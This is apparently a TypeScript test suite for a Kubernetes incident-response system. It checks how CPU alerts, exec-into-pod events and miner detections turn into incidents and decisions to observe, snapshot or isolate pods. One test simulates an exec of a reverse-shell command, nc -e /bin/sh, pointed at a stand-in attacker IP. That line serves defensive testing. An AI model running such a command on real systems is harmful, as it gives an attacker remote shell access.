import { strict as assert } from 'node:assert';
import type { CpuIncident } from '../../../local/scenarios/monitoring-incident.ts';
import { SHOP } from '../../../local/world/seed.ts';
import { planOf } from '../../../shared/decision/plan.ts';
import { TIERS } from '../../../shared/model/ids.ts';
import type { Incident } from '../../../shared/model/incident.ts';
import { chainOf, nodeOf, onPod } from '../../kit/cpu-chain.ts';
import { appliedEntry, type Kit, podsNamed } from '../../kit/decision.ts';
import { cart } from '../../kit/requests.ts';

const MINUTE = 60_000;
const hostIdOf = ({ subjects: [subject] }: Incident): string =>
  (subject?.kind === 'pod' ? subject.host?.id : subject?.uid) ?? '';
/** UIDs of the pods that the plan of the incident's goal quarantines. */
const actedOn = (incident: Incident): string[] => {
  const { goal } = incident;
  const tier = TIERS.find((one) => one === goal?.tier);
  if (goal === null || tier === undefined) return [];
  const plan = planOf(incident, tier, goal, { networkPolicy: true });
  return plan.flatMap(({ step, uid }) => (step === 'quarantine-pod' ? [uid] : [])).sort();
};
const rulesIn = ({ summary }: Incident): string[] => summary.maxima.map(({ rule }) => rule);
const recordedFor = async (kit: Kit, rule: string): Promise<string[]> =>
  (await kit.ports.stores.findings.list({})).items.flatMap((r) => (r.finding.rule === rule ? [r.incident] : []));
const SHAPE = 'strong-plateau-hour' as const;

describe('CPU use, from notification to incident', () => {
  it('joins the open incident on its node, also if it names no pod', async () => {
    const { kit, notify, exec } = chainOf();
    const pod = cart(kit);
    await exec(pod);
    const before = await kit.incident();
    await notify({ on: { kind: 'node', node: nodeOf(pod) }, shape: SHAPE });
    const name = nodeOf(pod);
    await notify({ on: { kind: 'instance', instance: hostIdOf(before), zone: 'europe-west1-b', name }, shape: SHAPE });
    const after = await kit.incident();
    assert.deepEqual(after.subjects, before.subjects);
    assert.deepEqual(rulesIn(after), ['exec-into-pod', 'exec-miner', 'sustained-high-cpu']);
    assert.deepEqual(await recordedFor(kit, 'sustained-high-cpu'), [after.id, after.id]);
    assert.equal(after.goal?.rev, before.goal?.rev);
  });

  it('joins the incident that holds the VM even if the alert does not name the cluster', async () => {
    const { kit, notify, exec } = chainOf();
    const pod = cart(kit);
    await exec(pod);
    const { id, ...before } = await kit.incident();
    const on = { kind: 'instance', instance: hostIdOf({ id, ...before }), zone: 'europe-west1-b', name: 'n' } as const;
    await notify({ on, shape: SHAPE }, { metadata: { system_labels: {}, user_labels: {} } });
    assert.equal((await kit.incident()).id, id);
    assert.deepEqual(await recordedFor(kit, 'sustained-high-cpu'), [id]);
  });

  it('is recorded without a subject if the alert names no cluster and no incident holds the VM', async () => {
    const { kit, notify } = chainOf();
    const on = { kind: 'instance', instance: '4242', zone: 'europe-west1-b', name: 'n' } as const;
    await notify({ on, shape: SHAPE }, { metadata: {} });
    const { subjects, target } = await kit.incident();
    assert.deepEqual(subjects, []);
    assert.deepEqual(target, { project: 'p1', location: 'europe-west1-b', instance: '4242' });
  });

  it('leads to a snapshot at most if it is the only evidence', async () => {
    const { kit, notify } = chainOf();
    const node = nodeOf(cart(kit));
    for (let n = 0; n < 5; n += 1) await notify({ on: { kind: 'node', node }, shape: SHAPE });
    for (const pod of podsNamed(kit, 'shop', 'cart-')) await notify({ on: onPod(pod), shape: SHAPE });
    const all = await kit.incidents();
    assert.equal(all.length, 2);
    for (const { decision, goal } of all) assert.deepEqual([decision?.tier, goal?.tier], ['snapshot', 'snapshot']);
  });

  it('is only observed if it is merely above a threshold', async () => {
    const { kit, notify } = chainOf();
    await notify({ on: onPod(cart(kit)) });
    const { decision, goal } = await kit.incident();
    assert.deepEqual([decision?.tier, goal], ['observe', null]);
  });

  // When one pod is cut off its load moves to the other replicas, which must not be cut off because of that.
  for (const order of ['exec first', 'CPU first']) {
    it(`of another replica has no further effect on that replica than CPU alone: ${order}`, async () => {
      const { kit, notify, exec } = chainOf();
      const [victim, ...others] = podsNamed(kit, 'shop', 'cart-');
      assert.ok(victim !== undefined && others.length === 2);
      const busy = async (): Promise<void> => {
        for (const pod of others) await notify({ on: onPod(pod), shape: SHAPE });
      };
      if (order === 'exec first') await exec(victim);
      await busy();
      if (order === 'CPU first') await exec(victim);
      const incident = await kit.incident();
      assert.equal(incident.decision?.tier, 'isolate');
      assert.equal(incident.goal?.options?.freeze, undefined);
      assert.deepEqual(actedOn(incident), [victim.metadata.uid]);
      await exec(others[0] ?? victim, 'nc -e /bin/sh 203.0.113.9 4444');
      assert.deepEqual(actedOn(await kit.incident()), [victim, others[0]].map((pod) => pod?.metadata.uid).sort());
    });
  }

  it('does not act on a pod of the same name that was made after the event', async () => {
    const { kit, notify } = chainOf();
    const pod = cart(kit);
    const made = Date.parse(pod.metadata.creationTimestamp);
    await notify({ on: onPod(pod), shape: SHAPE, startedAt: made - 3 * MINUTE });
    assert.deepEqual((await kit.incident()).subjects, []);
    const tolerated = chainOf();
    await tolerated.notify({ on: onPod(pod), shape: SHAPE, startedAt: made - 2_000 });
    assert.equal((await tolerated.kit.incident()).subjects.length, 1);
  });

  it('of a VM does not act on the VM that replaced it', async () => {
    const { kit, notify } = chainOf();
    const node = kit.cluster.get({ apiVersion: 'v1', kind: 'Node', name: nodeOf(cart(kit)) });
    const made = Date.parse(node?.metadata.creationTimestamp ?? '');
    const name = node?.metadata.name ?? '';
    await notify({ on: { kind: 'instance', instance: '4242', zone: 'europe-west1-b', name }, shape: SHAPE });
    await notify({ on: { kind: 'node', node: name }, shape: SHAPE, startedAt: made - 3 * MINUTE });
    const all = await kit.incidents();
    assert.equal(all.length, 2);
    for (const { subjects } of all) assert.deepEqual(subjects, []);
  });

  // The same names in another cluster mean other objects.
  it('of another cluster has no effect here', async () => {
    const { kit, notify } = chainOf();
    await notify({ on: onPod(cart(kit)), cluster: { ...SHOP, cluster: 'c2' }, shape: SHAPE });
    assert.deepEqual(await kit.incidents(), []);
    assert.match(kit.counted.map(({ message }) => message).join(), /cluster p1\/europe-west1\/c2 is not served/);
  });

  it('without the name of the cluster has no effect on a pod here', async () => {
    const { kit, notify } = chainOf();
    const { metadata } = cart(kit);
    const labels = { project_id: 'p1', namespace_name: 'shop', pod_name: metadata.name };
    await notify({ on: onPod(cart(kit)), shape: SHAPE }, { resource: { type: 'k8s_container', labels } });
    const { subjects, goal } = await kit.incident();
    assert.deepEqual(subjects, []);
    assert.notEqual(goal?.tier, 'snapshot');
  });

  // An alert stays open for its look-back window after its cause is over.
  it('that goes on after the pod was contained changes nothing', async () => {
    const { kit, notify, exec } = chainOf();
    const pod = cart(kit);
    await exec(pod);
    await notify({ on: onPod(pod), shape: SHAPE });
    const contained = await kit.incident();
    await kit.carryOut(contained.id, [appliedEntry(kit)]);
    await kit.clock.advance(50 * MINUTE);
    await notify({ on: onPod(pod), shape: SHAPE });
    await notify({ on: { kind: 'node', node: nodeOf(pod) }, shape: SHAPE });
    const after = await kit.incident();
    assert.deepEqual([after.goal, after.decision?.asked?.plan], [contained.goal, contained.decision?.asked?.plan]);
  });

  it('that goes on after a release only asks', async () => {
    const { kit, notify } = chainOf();
    const pod = cart(kit);
    await notify({ on: onPod(pod), shape: SHAPE });
    const first = await kit.incident();
    await kit.carryOut(first.id, [appliedEntry(kit)]);
    const release = { action: 'release', incident: first.id, reason: 'false alarm', requestedBy: 'ana@example.com' };
    assert.equal((await kit.ask(release)).state, 'accepted');
    await kit.clock.advance(5 * MINUTE);
    await notify({ on: onPod(pod), shape: SHAPE });
    const [next] = (await kit.incidents()).filter(({ id }) => id !== first.id);
    assert.deepEqual([next?.decision?.verdict, next?.decision?.tier, next?.goal], ['ask', 'observe', null]);
  });

  // A resolved alert must not act on a pod that runs well again.
  it('that has ended has no effect', async () => {
    const { kit, notify } = chainOf();
    const startedAt = kit.clock.now();
    const at: Partial<CpuIncident> = { id: '0.same', startedAt, shape: SHAPE };
    await notify({ ...at, on: onPod(cart(kit)), state: 'closed' });
    await notify({ ...at, on: onPod(cart(kit)) });
    assert.deepEqual(await kit.incidents(), []);
  });
});
